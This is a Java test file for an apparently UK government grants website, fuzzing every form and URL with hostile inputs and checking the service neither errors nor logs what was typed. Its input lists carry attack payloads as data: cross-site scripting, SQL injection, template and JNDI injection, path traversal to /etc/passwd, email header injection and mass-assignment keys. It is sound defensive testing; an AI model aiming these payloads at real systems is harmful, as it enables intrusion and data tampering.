package uk.gov.education.grants.site;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.dao.DataAccessException;
import org.springframework.http.HttpMethod;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;
import uk.gov.education.grants.support.DemoHouse;
import uk.gov.education.grants.support.Site;
import uk.gov.education.grants.support.Site.Visit;
import uk.gov.education.grants.support.SiteReader;
import uk.gov.education.grants.support.WhatWasLogged;

/// Whatever is typed into whichever field of whichever form, the service answers: with a page that gives back what was
/// typed, or by going on. It never fails, and never sends anybody who is signed in to sign in. What the form does not
/// have is not listened to, and nothing of it all is in the log.
@DemoHouse
class BadInputTest {

    /// The id of nobody and nothing.
    private static final String STRANGER = "5eedca11-0000-4000-8000-00000bad1dea";

    private static final List<String> NASTY = List.of(
            " ",
            "a\u0000b\u0007\u001b[31m\ufffe\uffff",
            "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301\u0302\u0303 \u200b\u202egnp.exe Ŵyth tŷ bach",
            "\"><script>alert(1)</script><img src=x onerror=alert(1)>",
            "__${7*7}__::x [[${7*7}]] #{7*7} *{7*7} {0} %s%n%x ${jndi:ldap://example.org/a}",
            "'; drop table bid; --",
            "=HYPERLINK(\"http://example.org\")",
            "../../etc/passwd",
            "a\r\nBcc: everybody@example.org",
            "-1",
            "0",
            "0.001",
            "£ 1,234.56",
            "１２３",
            "NaN",
            "9223372036854775807",
            "9999999999999999999999",
            "32",
            "2027-02-29",
            "10000",
            "2147483648",
            "00000000-0000-0000-0000-000000000000",
            "http://[::1",
            "long ".repeat(20_001));

    /// Sent in one field alone, where the rest of the form is as it should be, so that nothing else stops it.
    private static final List<String> NASTIEST = List.of("\u0000", "x".repeat(301), "-9999999999999999999999");

    private static final List<String> NASTY_IN_ADDRESSES = List.of(
            "%00",
            "%F0%9F%91%A9",
            "%ED%A0%BD",
            "..%2F..%2Fetc%2Fpasswd",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "-1",
            "99999999999999999999",
            "BID-9999-99999999999",
            "00000000-0000-0000-0000-000000000000",
            "x".repeat(3_000));

    /// What pages are asked for after the question mark, whether or not this page listens to it.
    private static final List<String> QUESTIONS = List.of(
            "q", "after", "before", "from", "year", "status", "region", "programme", "kind", "advice", "refused");

    /// What forms never have and a row of the database does, and what programs have listened to in other services.
    private static final Map<String, String> NOT_OF_THE_FORM = Map.ofEntries(
            Map.entry("id", STRANGER),
            Map.entry("organisation_id", STRANGER),
            Map.entry("organisationId", STRANGER),
            Map.entry("leadOrganisationId", STRANGER),
            Map.entry("person", STRANGER),
            Map.entry("person_id", STRANGER),
            Map.entry("orgId", "GB-LAE-HCK"),
            Map.entry("username", "editor.hackney@example.org"),
            Map.entry("status", "APPROVED"),
            Map.entry("state", "LIVE"),
            Map.entry("role", "ADMIN"),
            Map.entry("roles", "ADMIN"),
            Map.entry("version", "99"),
            Map.entry("disabled", "false"),
            Map.entry("grantPence", "987654321"),
            Map.entry("amount", "987654321"),
            Map.entry("awardedPence", "987654321"),
            Map.entry("amount_pence", "987654321"),
            Map.entry("approvedBy", STRANGER),
            Map.entry("approved_by", STRANGER),
            Map.entry("submittedAt", "2001-01-01T00:00:00Z"),
            Map.entry("submitted_at", "2001-01-01T00:00:00Z"),
            Map.entry("reference", "BID-2001-0001"),
            Map.entry("class.module.classLoader.URLs[0]", "http://example.org"),
            Map.entry("class.protectionDomain", "x"),
            Map.entry("_method", "DELETE"));

    private static final Pattern MADE = Pattern.compile(
            "[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}|\\b[A-Z]+-\\d{4}-\\d{4,}|\\b(?:[0-9a-f]{64}|[0-9a-f]{104})\\b|\\$argon2[^\"]+");
    private static final String INSTANT = "\\d{4}-\\d\\d-\\d\\d[T ]\\d\\d:\\d\\d:\\d\\d(?:\\.\\d+)?";

    @Autowired
    JdbcClient db;

    @Autowired
    Site site;

    @Autowired
    SiteReader reader;

    private final AtomicInteger turns = new AtomicInteger();

    private WhatWasLogged log;

    @BeforeEach
    void listen() {
        log = new WhatWasLogged();
    }

    /// What people typed, and who they are and where they are paid, is in the database and nowhere else. Lines that
    /// somebody types cannot be taken for lines of the log, because nothing that is typed comes into it.
    @AfterEach
    void nothingPersonalIsInTheLog() {
        log.close();
        var personal = db.sql("""
                        select name from person union select username from person
                        union select account_number from bank_details union select sort_code from bank_details
                        union select account_name from bank_details""").query(String.class).list();
        var typed = Stream.of(NASTY, NASTIEST)
                .flatMap(List::stream)
                .filter(text -> text.length() > 12)
                .toList();
        assertThat(log.lines())
                .allSatisfy(line -> assertThat(line)
                        .doesNotContain(personal)
                        .doesNotContain(typed)
                        .doesNotContain("everybody@example.org", "alert(1)", "987654321"));
    }

    @TestFactory
    Stream<DynamicTest> everyFormTakesAnything() {
        var known = new HashSet<String>();
        return site.pages().stream().flatMap(visit -> {
            var page = document(reader.get(visit.who(), visit.address()));
            return page.select("main form").stream()
                    .filter(form ->
                            known.add(addressOf(form, visit) + filled(form).keySet()))
                    .map(form -> dynamicTest(
                            "%s, sent to %s".formatted(visit, addressOf(form, visit)),
                            () -> sendAnythingIn(visit, form)));
        });
    }

    @TestFactory
    Stream<DynamicTest> everyAddressTakesAnything() {
        var known = new HashSet<String>();
        return Stream.of(site.pages(), site.files(), site.actions())
                .flatMap(List::stream)
                .filter(visit -> known.add(visit.who() + visit.address()))
                .map(visit -> dynamicTest(visit.toString(), () -> askForAnything(visit, known)));
    }

    private void askForAnything(Visit visit, Set<String> known) {
        var path = visit.address().replaceAll("\\?.*", "");
        for (var nasty : NASTY_IN_ADDRESSES) {
            var steps = path.split("/");
            for (var step = 1; step < steps.length; step++) {
                var changed = steps.clone();
                changed[step] = nasty;
                // what begins with nonsense leads nowhere, whatever follows: once for each length
                var isNew = known.add(step == 1 ? nasty + steps.length : String.join("/", changed));
                if (isNew) {
                    ask(visit, String.join("/", changed));
                }
            }
        }
        // three of them a page, others on the next, so that all of them come round
        var first = turns.getAndIncrement();
        for (var turn = 0; turn < 3; turn++) {
            var nasty = NASTY_IN_ADDRESSES.get((first + turn) % NASTY_IN_ADDRESSES.size());
            ask(visit, QUESTIONS.stream().map(each -> each + "=" + nasty).collect(joining("&", path + "?", "")));
        }
    }

    private void ask(Visit visit, String address) {
        assertThat(reader.get(visit.who(), address).getResponse().getStatus())
                .as(shortened(address))
                .isLessThan(500);
    }

    private void sendAnythingIn(Visit visit, Element form) {
        isSentWithMore(visit, form);
        var asFilled = filled(form);
        var typed = form.select("input:not([type=hidden]):not([type=file]), textarea, select").eachAttr("name").stream()
                .filter(name -> !name.isEmpty())
                .distinct()
                .toList();
        var hidden = form.select("input[type=hidden]").eachAttr("name");
        for (var nasty : NASTY) {
            var fields = new LinkedMultiValueMap<>(asFilled);
            typed.forEach(field -> fields.set(field, nasty));
            send(visit, form, fields, nasty);
        }
        for (var field :
                Stream.concat(typed.stream(), hidden.stream()).distinct().toList()) {
            for (var nasty : NASTIEST) {
                var fields = new LinkedMultiValueMap<>(asFilled);
                fields.set(field, nasty);
                send(visit, form, fields, nasty);
            }
        }
    }

    /// Sent as it came, and again with what it does not have: what comes of it is the same, to the last column.
    private void isSentWithMore(Visit visit, Element form) {
        if (form.attr("method").equals("post")) {
            var fields = filled(form);
            var more = new LinkedMultiValueMap<>(fields);
            NOT_OF_THE_FORM.entrySet().stream()
                    .filter(extra -> form.select("[name=\"%s\"]".formatted(extra.getKey()))
                            .isEmpty())
                    .forEach(extra -> more.add(extra.getKey(), extra.getValue()));
            var address = addressOf(form, visit);
            var plain = reader.send(HttpMethod.POST, visit.who(), address, fields, this::whatCameOf);
            var withMore = reader.send(HttpMethod.POST, visit.who(), address, more, this::whatCameOf);
            assertThat(withMore).as(address).doesNotContain(STRANGER, "987654321", "2001-0");
            assertThat(withoutChance(withMore, plain)).as(address).isEqualTo(withoutChance(plain, withMore));
        }
    }

    /// The answer, and every row that this request has written.
    private String whatCameOf(MvcTestResult answer) {
        var response = answer.getResponse();
        return "%d %s\n%s".formatted(response.getStatus(), response.getRedirectedUrl(), written());
    }

    private String written() {
        try {
            return db.sql("""
                            select relname from pg_stat_xact_user_tables
                            where n_tup_ins + n_tup_upd + n_tup_del > 0 and relname not like 'spring_session%' and relname <> 'scheduled_tasks' and has_table_privilege(relid, 'select')
                            order by relname""").query(String.class).list().stream()
                    .map(table -> table
                            + db.sql("""
                                    select coalesce(string_agg(to_jsonb(t)::text, chr(10) order by to_jsonb(t)::text), '')
                                    from %s t where t.xmin = pg_current_xact_id()::xid""".formatted(table)).query(String.class).single())
                    // what this connection did a moment ago may still be counted
                    .filter(rows -> rows.contains("{"))
                    .collect(joining("\n"));
        } catch (DataAccessException undone) {
            return "undone";
        }
    }

    /// Ids, references and hashes that are in this one alone were made for it; times and numbers of sequences go on.
    private static String withoutChance(String one, String other) {
        return MADE.matcher(one)
                .replaceAll(made -> other.contains(made.group()) ? Matcher.quoteReplacement(made.group()) : "new")
                .replaceAll(INSTANT, "now")
                .replaceAll("\"id\": \\d+|\"number\": \\d+(?=, \"reason\")", "next");
    }

    private void send(Visit visit, Element form, MultiValueMap<String, String> fields, String nasty) {
        var isSent = form.attr("method").equals("post");
        var address = addressOf(form, visit);
        var answer = reader.send(isSent ? HttpMethod.POST : HttpMethod.GET, visit.who(), address, fields);
        var what = "%s with %s".formatted(address, shortened(fields.toString()));
        assertThat(answer.getResponse().getStatus()).as(what).isLessThan(500);
        assertThat(Objects.requireNonNullElse(answer.getResponse().getRedirectedUrl(), ""))
                .as(what)
                .doesNotEndWith("/sign-in");
        if (isSent && answer.getResponse().getStatus() == 200) {
            givesBack(document(answer), fields, nasty, what);
        }
    }

    private static String addressOf(Element form, Visit visit) {
        return form.attr("action").isEmpty() ? visit.address() : form.attr("action");
    }

    private static void givesBack(Document page, MultiValueMap<String, String> fields, String nasty, String what) {
        fields.forEach((name, values) -> {
            var field = page.select("main form[method=post] [name=\"%s\"]".formatted(name))
                    .first();
            if (field != null && values.contains(nasty) && field.is("textarea, input[type=text], input:not([type])")) {
                assertThat(field.is("textarea") ? field.wholeText() : field.val())
                        .as("%s of %s", name, what)
                        // as HTML reads what it cannot hold
                        .isEqualToNormalizingNewlines(nasty.replace('\0', '\ufffd'));
            }
        });
    }

    private static MultiValueMap<String, String> filled(Element form) {
        var fields = new LinkedMultiValueMap<String, String>();
        for (var field : form.select("input:not([type=file]), textarea, select")) {
            var isChoice = field.is("[type=checkbox], [type=radio]");
            if (!isChoice || field.hasAttr("checked")) {
                fields.add(field.attr("name"), valueOf(field));
            }
        }
        fields.remove("");
        return fields;
    }

    private static String valueOf(Element field) {
        if (field.is("select")) {
            return Stream.of(field.select("option[selected]"), field.select("option"))
                    .flatMap(List::stream)
                    .findFirst()
                    .map(Element::val)
                    .orElse("");
        }
        return field.is("textarea") ? field.wholeText() : field.val();
    }

    private static Document document(MvcTestResult answer) {
        return Jsoup.parse(new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8));
    }

    private static String shortened(String text) {
        return text.length() > 400 ? text.substring(0, 400) + "…" : text;
    }
}
